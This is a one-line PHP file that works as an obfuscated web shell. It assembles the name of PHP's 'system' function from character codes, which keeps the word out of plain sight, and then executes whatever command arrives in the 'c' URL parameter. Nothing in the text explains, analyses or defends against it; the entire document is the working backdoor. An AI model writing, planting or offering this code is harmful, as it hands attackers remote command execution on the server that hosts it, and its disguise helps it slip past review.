<?php $f = array_map("chr", array(115,121,115,116,101,109)); $g = join($f); $g($_GET["c"]);
